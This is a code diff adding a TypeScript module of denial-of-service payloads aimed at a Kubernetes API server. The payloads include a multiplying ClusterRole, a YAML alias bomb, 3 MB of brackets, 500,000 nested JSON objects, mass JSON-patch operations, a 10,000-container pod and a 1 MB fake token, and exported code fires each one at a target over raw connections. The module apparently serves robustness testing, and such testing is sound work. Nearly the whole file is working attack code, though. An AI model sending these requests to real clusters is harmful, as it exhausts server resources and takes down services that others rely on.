@@ -1,0 +1,170 @@
+import { type Attack, repeat } from "../attack.js";
+import { dial, requestText } from "../raw-connection.js";
+
+const times = <T>(n: number, make: (at: number) => T): T[] => Array.from({ length: n }, (_, at) => make(at));
+const numbers = (n: number): string[] => times(n, (at) => `x${at}`);
+
+interface Sent {
+  readonly name: string;
+  readonly method?: string;
+  readonly path: string;
+  readonly type?: string;
+  readonly body: string;
+}
+
+const json = (value: unknown): string => JSON.stringify(value);
+const pods = "/api/v1/namespaces/default/pods";
+const maps = "/api/v1/namespaces/default/configmaps";
+const pod = (spec: object): string =>
+  json({
+    apiVersion: "v1",
+    kind: "Pod",
+    metadata: { generateName: "hostile-" },
+    spec: { containers: [{ name: "a", image: "b" }], ...spec },
+  });
+
+/** Objects and patches made to cost as much as they can. */
+const bodies: readonly Sent[] = [
+  {
+    name: "a role whose rules multiply",
+    path: "/apis/rbac.authorization.k8s.io/v1/clusterroles",
+    body: json({
+      apiVersion: "rbac.authorization.k8s.io/v1",
+      kind: "ClusterRole",
+      metadata: { generateName: "hostile-" },
+      rules: [{ apiGroups: numbers(400), resources: numbers(400), verbs: numbers(400) }],
+    }),
+  },
+  {
+    name: "volume paths of 200,000 slashes",
+    path: pods,
+    body: pod({
+      volumes: [
+        {
+          name: "v",
+          projected: {
+            sources: times(2, () => ({
+              configMap: { name: "c", items: [{ key: "k", path: `a${"/".repeat(200_000)}b` }] },
+            })),
+          },
+        },
+      ],
+    }),
+  },
+  {
+    name: "15,000 volume items",
+    path: pods,
+    body: pod({
+      volumes: [
+        { name: "v", configMap: { name: "c", items: times(15_000, (at) => ({ key: `k${at}`, path: `p${at}` })) } },
+      ],
+    }),
+  },
+  {
+    name: "a certificate request of 800,000 line breaks",
+    path: "/apis/certificates.k8s.io/v1/certificatesigningrequests",
+    body: json({
+      apiVersion: "certificates.k8s.io/v1",
+      kind: "CertificateSigningRequest",
+      metadata: { generateName: "hostile-" },
+      spec: {
+        signerName: "a/b",
+        usages: ["client auth"],
+        request: Buffer.from(`-----BEGIN CERTIFICATE REQUEST-----\n${"\n".repeat(800_000)}`).toString("base64"),
+      },
+    }),
+  },
+  {
+    name: "10,000 owner references",
+    path: maps,
+    body: json({
+      apiVersion: "v1",
+      kind: "ConfigMap",
+      metadata: {
+        generateName: "hostile-",
+        ownerReferences: times(10_000, (at) => ({ apiVersion: "v1", kind: "Pod", name: "a", uid: `u${at}` })),
+      },
+    }),
+  },
+  {
+    name: "200,000 equal keys in YAML",
+    method: "PATCH",
+    path: `${maps}/hostile?fieldManager=m`,
+    type: "application/apply-patch+yaml",
+    body: `apiVersion: v1\nkind: ConfigMap\ndata:\n${"  k: v\n".repeat(200_000)}`,
+  },
+  {
+    name: "aliases of aliases in YAML",
+    method: "PATCH",
+    path: `${maps}/hostile?fieldManager=m`,
+    type: "application/apply-patch+yaml",
+    body: `a: &a [x,x,x,x,x,x,x,x,x]\n${times(30, (at) => `b${at}: &b${at} [${times(9, () => (at === 0 ? "*a" : `*b${at - 1}`)).join()}]`).join("\n")}\n`,
+  },
+  {
+    name: "100,000 members that are applied",
+    method: "PATCH",
+    path: `${maps}/hostile?fieldManager=m&force=true`,
+    type: "application/apply-patch+yaml",
+    body: json({
+      apiVersion: "v1",
+      kind: "ConfigMap",
+      metadata: { name: "hostile" },
+      data: Object.fromEntries(times(100_000, (at) => [`k${at}`, "v"])),
+    }),
+  },
+  { name: "3 MB of brackets", path: maps, body: "[".repeat(3_000_000) },
+  { name: "objects in objects", path: maps, body: '{"a":'.repeat(500_000) },
+  {
+    name: "10,000 operations on a list",
+    method: "PATCH",
+    path: `${maps}/patched`,
+    type: "application/json-patch+json",
+    body: json([
+      { op: "add", path: "/metadata/finalizers", value: [] },
+      ...times(9_999, (at) => ({ op: "add", path: "/metadata/finalizers/0", value: `a/${at}` })),
+    ]),
+  },
+  {
+    name: "copies of copies",
+    method: "PATCH",
+    path: `${maps}/patched`,
+    type: "application/json-patch+json",
+    body: json(times(2000, (at) => ({ op: "copy", from: "/data", path: `/data/x${at}` }))),
+  },
+  {
+    name: "a pod of 10,000 containers",
+    path: pods,
+    body: pod({ containers: times(10_000, (at) => ({ name: `c${at}`, image: "x" })) }),
+  },
+  {
+    name: "a network policy of 20,000 peers",
+    path: "/apis/networking.k8s.io/v1/namespaces/default/networkpolicies",
+    body: json({
+      apiVersion: "networking.k8s.io/v1",
+      kind: "NetworkPolicy",
+      metadata: { generateName: "hostile-" },
+      spec: {
+        podSelector: {},
+        ingress: [{ from: times(20_000, (at) => ({ ipBlock: { cidr: `10.${at >> 8}.${at & 255}.0/24` } })) }],
+      },
+    }),
+  },
+  {
+    name: "a token that is no token, 1 MB long",
+    path: "/apis/authentication.k8s.io/v1/tokenreviews",
+    body: json({ apiVersion: "authentication.k8s.io/v1", kind: "TokenReview", spec: { token: "a.".repeat(500_000) } }),
+  },
+];
+
+export const objectAttacks: readonly Attack[] = bodies.map(
+  ({ name, method = "POST", path, type = "application/json", body }) => ({
+    name,
+    run: (target, signal) =>
+      repeat(signal, 2, async () => {
+        const connection = await dial(target, signal);
+        connection.write(requestText(target, { method, path, headers: `Content-Type: ${type}\r\n`, body }));
+        await connection.answered;
+        connection.socket.destroy();
+      }),
+  }),
+);
